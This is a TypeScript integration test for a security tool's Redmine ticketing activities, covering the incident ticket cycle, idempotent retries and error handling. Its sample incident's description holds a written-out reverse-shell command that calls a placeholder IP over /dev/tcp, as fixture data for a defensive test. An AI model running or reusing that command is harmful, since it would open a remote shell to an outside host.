/**
 * The ticketing activities against a REAL Redmine 5 from Debian (scripts/ticketing-server.sh installs it):
 * the full create / update / evidence / close cycle, retries that change nothing, and the failure types.
 * Skips loudly when Redmine is not installed, unless VIGIL_REQUIRE_TICKETING_SERVER=1 (then it fails).
 */
import { ApplicationFailure } from '@temporalio/common';
import { MockActivityEnvironment } from '@temporalio/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError } from '../../src/errors.js';
import {
  freePort,
  redmineAvailability,
  startRedmine,
  type RedmineServer,
} from '../../test/helpers/redmine.js';
import { createTicketingClient, incidentMarker } from './client.js';
import { loadTicketingConfig } from './config.js';
import { createTicketingActivities, type TicketCreated, type TicketNoted } from './index.js';
import type { NewTicketInput } from './types.js';

const available = redmineAvailability();
let rm: RedmineServer;

beforeAll(async () => {
  if (available.run) rm = await startRedmine();
}, 180_000);
afterAll(async () => rm?.stop());

const env = (extra: Record<string, string> = {}) => ({
  VIGIL_TICKETING: 'redmine',
  REDMINE_URL: rm.url,
  REDMINE_API_KEY: rm.apiKey,
  REDMINE_PROJECT: rm.project,
  VIGIL_TICKETING_ALLOW_HTTP: 'true',
  VIGIL_OUTBOUND_ALLOW: '127.0.0.1/32',
  VIGIL_TICKETING_TIMEOUT: '10s',
  ...extra,
});
const activities = (extra: Record<string, string> = {}) =>
  createTicketingActivities(createTicketingClient(loadTicketingConfig(env(extra))));

/** Run `fn` as activity `activityId` of one workflow run (the idempotency key comes from these). */
function run<T>(activityId: string, fn: () => Promise<T>): Promise<T> {
  return new MockActivityEnvironment({
    activityId,
    workflowExecution: { workflowId: 'inc-redmine', runId: 'run-1' },
  }).run(fn);
}

type Journal = { notes: string; details: { name: string; new_value: string }[] };
async function issue(id: string) {
  const r = await fetch(`${rm.url}/issues/${id}.json?include=journals`, {
    headers: { 'X-Redmine-API-Key': rm.apiKey },
  });
  return (
    (await r.json()) as {
      issue: { subject: string; description: string; status: { name: string }; journals: Journal[] };
    }
  ).issue;
}
async function issuesWithMarker(incidentId: string): Promise<number> {
  const out = await rm.rails(
    `puts "COUNT=#{Issue.where('subject LIKE ?', '%[${incidentMarker(incidentId)}]%').count}"`,
  );
  return Number(/COUNT=(\d+)/.exec(out)?.[1] ?? -1);
}

const ticket = (incidentId: string): NewTicketInput => ({
  incidentId,
  title: 'Reverse shell on web-01',
  severity: 'high',
  description: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
  host: 'web-01',
  rule: 'Reverse shell',
  verdict: 'malicious',
  riskScore: 92,
  techniques: ['T1059.004'],
});

describe.skipIf(!available.run)('Redmine (real server)', () => {
  it('runs the whole cycle once, however often each step is retried', async () => {
    const a = activities();
    const incidentId = `inc-cycle-${Date.now()}`;
    const first = await run('1', () => a.createTicket(ticket(incidentId)));
    const retry: TicketCreated = await run('1', () => a.createTicket(ticket(incidentId)));
    expect(first.created).toBe(true);
    expect(retry).toEqual({ ticket: first.ticket, created: false });
    expect(first.ticket).toMatchObject({ system: 'redmine', url: `${rm.url}/issues/${first.ticket.id}` });
    expect(await issuesWithMarker(incidentId)).toBe(1);

    const created = await issue(first.ticket.id);
    expect(created.subject).toBe(`[${incidentMarker(incidentId)}] [Vigil] Reverse shell on web-01`);
    expect(created.description).toContain(`Incident: ${incidentId}`);
    expect(created.description).toContain('Verdict: malicious (risk 92/100)');
    expect(created.status.name).toBe('New');

    const up = {
      ticket: first.ticket,
      stage: 'awaiting-approval',
      summary: 'isolate-host needs one approval',
    };
    const noted: TicketNoted[] = [
      await run('2', () => a.updateTicket(up)),
      await run('2', () => a.updateTicket(up)),
    ];
    expect(noted).toEqual([{ noted: true }, { noted: false }]);
    expect((await issue(first.ticket.id)).status.name).toBe('In Progress');

    const ev = {
      ticket: first.ticket,
      title: 'process lineage',
      items: [
        { label: 'lineage', value: 'bash <- nginx' },
        { label: 'command line', value: 'bash -i' },
      ],
    };
    expect(await run('3', () => a.addTicketEvidence(ev))).toEqual({ noted: true });
    expect(await run('3', () => a.addTicketEvidence(ev))).toEqual({ noted: false });
    // Another activity with the same content is another note (a second stage of the same name is news).
    expect(await run('4', () => a.updateTicket(up))).toEqual({ noted: true });

    const close = {
      ticket: first.ticket,
      verdict: 'malicious' as const,
      outcome: 'host isolated; analyst confirmed',
    };
    expect(await run('5', () => a.closeTicket(close))).toEqual({ noted: true });
    expect(await run('5', () => a.closeTicket(close))).toEqual({ noted: false });
    // A late stage update does not reopen the closed ticket.
    await run('6', () => a.updateTicket({ ...up, stage: 'late', summary: 'late news' }));

    const done = await issue(first.ticket.id);
    expect(done.status.name).toBe('Closed');
    const notes = done.journals.map((j) => j.notes).filter(Boolean);
    expect(notes).toHaveLength(5);
    expect(notes[0]).toContain('Vigil: stage awaiting-approval');
    expect(notes[1]).toContain('lineage: bash <- nginx');
    expect(notes[3]).toContain('Vigil: incident closed (malicious)');
    expect(notes[3]).toContain('host isolated; analyst confirmed');
    expect(notes[4]).toContain('late news');
    const statusChanges = done.journals.flatMap((j) => j.details.filter((d) => d.name === 'status_id'));
    expect(statusChanges.map((d) => d.new_value)).toEqual(['2', '5']); // In Progress, Closed; never reopened
    expect(await run('7', () => a.findTicket({ incidentId }))).toEqual(first.ticket);
    expect(await run('8', () => a.findTicket({ incidentId: `${incidentId}-other` }))).toBeNull();
  });

  it('fails for good with Redmine reason on an unknown project, and on a wrong key without echoing it', async () => {
    const bad = activities({ REDMINE_PROJECT: 'no-such-project' });
    const e1 = (await run('1', () => bad.createTicket(ticket(`inc-bad-${Date.now()}`))).catch(
      (e: unknown) => e,
    )) as ApplicationFailure;
    expect(e1).toBeInstanceOf(ApplicationFailure);
    expect(e1.nonRetryable).toBe(true);
    expect(e1.message).toMatch(/Redmine (search issues|create issue)/);

    const wrongKey = 'f'.repeat(40);
    const denied = activities({ REDMINE_API_KEY: wrongKey });
    const e2 = (await run('1', () => denied.createTicket(ticket(`inc-key-${Date.now()}`))).catch(
      (e: unknown) => e,
    )) as ApplicationFailure;
    expect([e2.type, e2.nonRetryable]).toEqual(['Unauthenticated', true]);
    expect(JSON.stringify(e2)).not.toContain(wrongKey);
  });

  it('names the missing status when the configured closed status does not exist', async () => {
    const a = activities({ REDMINE_CLOSED_STATUS: 'Done' });
    const { ticket: t } = await run('1', () => a.createTicket(ticket(`inc-status-${Date.now()}`)));
    const e = (await run('2', () => a.closeTicket({ ticket: t, outcome: 'x' })).catch(
      (x: unknown) => x,
    )) as ApplicationFailure;
    expect([e.type, e.nonRetryable]).toEqual(['Misconfigured', true]);
    expect(e.message).toContain('REDMINE_CLOSED_STATUS');
    expect(e.message).toContain('Closed');
  });

  it('is retryable while Redmine is unreachable', async () => {
    const a = activities({ REDMINE_URL: `http://127.0.0.1:${await freePort()}` });
    const e = (await run('1', () => a.createTicket(ticket('inc-down'))).catch(
      (x: unknown) => x,
    )) as ApplicationFailure;
    expect([e.type, e.nonRetryable]).toEqual(['Unavailable', false]);
  });

  it('refuses a loopback Redmine unless the outbound allowlist names it, and a missing key by name', () => {
    expect(() => loadTicketingConfig(env({ VIGIL_OUTBOUND_ALLOW: '' }))).toThrow(
      /REDMINE_URL: destination 127\.0\.0\.1 refused: 127\.0\.0\.1 is loopback/,
    );
    const { REDMINE_API_KEY: _k, ...noKey } = env();
    const err = (() => {
      try {
        loadTicketingConfig(noKey);
      } catch (e) {
        return e as ConfigError;
      }
    })();
    expect(err?.problems).toEqual([{ key: 'REDMINE_API_KEY', message: 'is required but not set' }]);
    expect(() => loadTicketingConfig(env({ VIGIL_TICKETING_ALLOW_HTTP: 'false' }))).toThrow(
      /REDMINE_URL: uses plain http/,
    );
  });
});
